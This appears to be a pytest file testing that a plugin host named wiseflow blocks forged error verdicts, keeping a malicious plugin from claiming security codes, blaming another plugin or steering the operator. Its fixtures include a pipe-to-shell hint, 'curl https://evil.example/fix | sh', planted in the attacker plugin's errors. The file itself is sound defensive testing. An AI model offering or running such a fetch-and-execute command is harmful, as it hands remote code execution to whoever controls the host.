"""Forged verdicts: a plugin's exception cannot choose the host's verdict (SPEC §11).

The attacker raises a WiseflowError carrying a security code (WF303, exit 3), another
plugin's name and a hint telling the operator to run its command. The host must report a
failure of the attacker (WF400 family, exit 1), with the attacker's code, name and hint
shown only as the plugin's own, labelled text.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from cli_kit import PIPELINE, SOURCE, document, project, wf

from wiseflow import Record
from wiseflow._contract._errors import error_from_dict, exit_code_for

EVIL_HINT = "curl https://evil.example/fix | sh"

FORGER = """\
from wiseflow import ProcessorPlugin, WiseflowError

def forged():
    return WiseflowError("integrity mismatch in innocent", code="WF303", plugin="innocent",
                         hint="curl https://evil.example/fix | sh")

class P(ProcessorPlugin):
    def initialize(self, ctx):
        if {where!r} == "initialize":
            raise forged()

    def process(self, batch):
        raise forged()
"""


def _assert_attributed_to_attacker(err: dict[str, object]) -> None:
    assert err["plugin"] == "attacker"
    assert str(err["code"]).startswith("WF4")
    assert "plugin says: [WF303]" in str(err["message"])
    hint = str(err["hint"] or "")
    assert not hint.startswith("curl")
    assert EVIL_HINT not in hint or "the plugin's own hint, not checked by wiseflow" in hint


@pytest.mark.parametrize("level", ["trusted", "sandboxed"])
def test_forged_security_verdict_in_initialize_is_the_attackers_failure(
    tmp_path: Path, level: str
) -> None:
    """A WF303 raised in initialize() naming another plugin exits 1 as WF400 of the raiser."""
    code = FORGER.format(where="initialize")
    project(tmp_path, {"innocent": ("connector", SOURCE), "attacker": ("processor", code)},
            PIPELINE, level=level)  # fmt: skip
    res = wf("run", "p.toml", "--json", cwd=tmp_path)
    doc = document(res)
    assert exit_code_for("WF303") == 3  # control: what the forged code would have meant
    assert res.returncode == 1, res.stderr
    # a stage that could not start: a failed run (SPEC §12), its one error the attacker's
    assert doc["status"] == "failed", doc
    (err,) = doc["errors"]
    _assert_attributed_to_attacker(err)
    assert err["code"] == "WF400"

    human = wf("run", "p.toml", cwd=tmp_path)
    assert human.returncode == 1
    assert b"error WF400" in human.stderr and b"error WF303" not in human.stderr
    assert b"hint: curl" not in human.stderr


@pytest.mark.parametrize("level", ["trusted", "sandboxed"])
def test_forged_verdict_in_process_blames_the_raiser_not_the_named_plugin(
    tmp_path: Path, level: str
) -> None:
    """A WF303 raised in process() is recorded as the attacker's WF400; the run exits 1."""
    code = FORGER.format(where="process")
    project(tmp_path, {"innocent": ("connector", SOURCE), "attacker": ("processor", code)},
            PIPELINE, level=level)  # fmt: skip
    res = wf("run", "p.toml", "--json", cwd=tmp_path)
    assert res.returncode == 1, res.stderr
    doc = document(res)
    assert doc["plugins"]["innocent"]["errors"] == 0
    assert doc["plugins"]["attacker"]["error_codes"] == ["WF400"]
    assert doc["records"]["dead_letters"] == 3  # the records the attacker failed on
    for err in doc["errors"]:
        _assert_attributed_to_attacker(err)


def test_forged_verdict_at_import_time_is_not_a_security_refusal(tmp_path: Path) -> None:
    """A plugin module raising WF303 while imported in its worker fails to load as WF400."""
    code = (
        "from wiseflow import WiseflowError, ProcessorPlugin\n"
        "raise WiseflowError('signature forged', code='WF304', plugin='innocent',"
        f" hint={EVIL_HINT!r})\n"
    )
    project(tmp_path, {"innocent": ("connector", SOURCE), "attacker": ("processor", code)},
            PIPELINE)  # fmt: skip
    res = wf("run", "p.toml", "--json", cwd=tmp_path)
    err = document(res)["error"]
    assert res.returncode not in (3, 4), res.stderr
    assert err["plugin"] == "attacker"
    assert not str(err["code"]).startswith("WF3")
    assert not str(err["hint"] or "").startswith("curl")


def test_plugin_raised_permission_denied_is_labelled_but_a_real_denial_keeps_wf301(
    sandbox: object, host_survives: None
) -> None:
    """A WF301 the broker issued stays WF301; one the plugin made up is the plugin's text."""
    from wiseflow._contract._verdict import is_plugin_made, plugin_failure
    from wiseflow._host._handle import PluginHandle

    runner = sandbox(  # type: ignore[operator]
        """
        class P(ProcessorPlugin):
            def initialize(self, ctx):
                self.ctx = ctx
            def process(self, batch):
                if batch[0].id == "real":
                    self.ctx.secret("NOT_GRANTED")   # the broker denies: a genuine WF301
                raise PermissionDenied("network refused", plugin="innocent", permission="x")
        """,
        name="attacker",
    )
    with pytest.raises(Exception) as made_up:
        runner.call("process", [[Record(id="fake", source="s")]], 10)
    assert made_up.value.code == "WF301" and is_plugin_made(made_up.value)  # control
    judged = plugin_failure(made_up.value, "attacker", "process")
    assert judged.code == "WF400" and judged.plugin == "attacker"
    assert "plugin says: [WF301] network refused (naming plugin 'innocent')" in judged.message

    with pytest.raises(Exception) as real:
        runner.call("process", [[Record(id="real", source="s")]], 10)
    assert not is_plugin_made(real.value)
    judged = plugin_failure(real.value, "attacker", "process")
    assert judged.code == "WF301" and "NOT_GRANTED" in judged.message
    assert PluginHandle is not None


def test_transient_and_skip_keep_their_meaning_with_the_plugin_forced(
    sandbox: object, host_survives: None
) -> None:
    """WF407 still retries (retry_after capped), WF408 still dead-letters; both are the caller's."""
    from wiseflow import SkipRecord, TransientError
    from wiseflow._contract._verdict import plugin_failure

    runner = sandbox(  # type: ignore[operator]
        """
        class P(ProcessorPlugin):
            def process(self, batch):
                if batch[0].id == "t":
                    raise TransientError("busy", retry_after=1e12, plugin="innocent",
                                         hint="curl x | sh")
                raise SkipRecord(batch[0].id, "bad record", plugin="innocent", code="WF408")
        """,
        name="attacker",
    )
    with pytest.raises(TransientError) as t:
        runner.call("process", [[Record(id="t", source="s")]], 10)
    judged = plugin_failure(t.value, "attacker", "process")
    assert isinstance(judged, TransientError) and judged.code == "WF407"
    assert judged.plugin == "attacker" and judged.retry_after == 3600.0
    assert "plugin says" in judged.message and not str(judged.hint).startswith("curl")

    with pytest.raises(SkipRecord) as s:
        runner.call("process", [[Record(id="k", source="s")]], 10)
    judged = plugin_failure(s.value, "attacker", "process")
    assert isinstance(judged, SkipRecord) and judged.code == "WF408"
    assert judged.plugin == "attacker" and judged.record_id == "k"


@pytest.mark.parametrize(
    "forged",
    [
        {"code": "WF303", "message": "m", "plugin": "innocent", "hint": EVIL_HINT},
        {"code": "WF101", "message": "m", "plugin": "innocent", "problems": [{"code": "WF999"}]},
        {"code": "WF502", "message": "store broken", "plugin": None},
        {"code": "WF601", "message": "index down", "plugin": "innocent"},
        {"code": "WF401", "message": "timed out", "plugin": "innocent"},
        {"code": "\x1b[2JWF9", "message": "x" * 100_000, "plugin": "p" * 10_000},
    ],
)
def test_any_error_dict_a_worker_sends_becomes_the_callers_plugin_failure(
    forged: dict[str, object],
) -> None:
    """Whatever class, code, plugin, hint or problems a wire error claims: WF400 of the caller."""
    from wiseflow._contract._verdict import mark_plugin, plugin_failure

    rebuilt = error_from_dict(forged)
    assert rebuilt.code == forged["code"]  # control: the wire alone would keep the claim
    judged = plugin_failure(mark_plugin(rebuilt), "attacker", "process")
    assert judged.code == "WF400" and judged.plugin == "attacker"
    assert exit_code_for(judged.code) == 1
    assert judged.problems == ()
    assert len(judged.message) < 3000


def test_malformed_wire_errors_are_rebuilt_without_raising() -> None:
    """Garbage types in a worker's error dict never crash the host while it rebuilds them."""
    from wiseflow._contract._verdict import mark_plugin, plugin_failure

    for forged in (
        {"code": "WF407", "message": "m", "retry_after": "soon"},
        {"code": "WF407", "message": "m", "retry_after": float("nan")},
        {"code": "WF301", "message": "m", "permission": ["x"], "plugin": 7, "hint": {"a": 1}},
        {"code": "WF408", "record_id": None, "reason": ["r"]},
        {"code": None, "message": None},
    ):
        judged = plugin_failure(mark_plugin(error_from_dict(forged)), "attacker", "process")
        assert judged.plugin == "attacker"
        assert judged.code in ("WF400", "WF407", "WF408")
        if judged.code == "WF407":
            assert judged.retry_after is None  # type: ignore[attr-defined]


@pytest.mark.parametrize("level", ["trusted", "sandboxed"])
def test_a_config_error_raised_in_initialize_names_the_raiser(tmp_path: Path, level: str) -> None:
    """WF105 keeps its meaning (exit 2), but names the plugin that raised it and labels its hint."""
    code = (
        "from wiseflow import ConfigError, ProcessorPlugin\n"
        "class P(ProcessorPlugin):\n"
        "    def initialize(self, ctx):\n"
        "        raise ConfigError('bad setting', plugin='innocent',"
        f" hint={EVIL_HINT!r})\n"
        "    def process(self, batch):\n"
        "        return batch\n"
    )
    project(tmp_path, {"innocent": ("connector", SOURCE), "attacker": ("processor", code)},
            PIPELINE, level=level)  # fmt: skip
    res = wf("run", "p.toml", "--json", cwd=tmp_path)
    err = document(res)["error"]
    assert res.returncode == 2, res.stderr
    assert err["code"] == "WF105" and err["plugin"] == "attacker"
    assert "the plugin's own hint, not checked by wiseflow" in err["hint"]
    assert not err["hint"].startswith("curl")
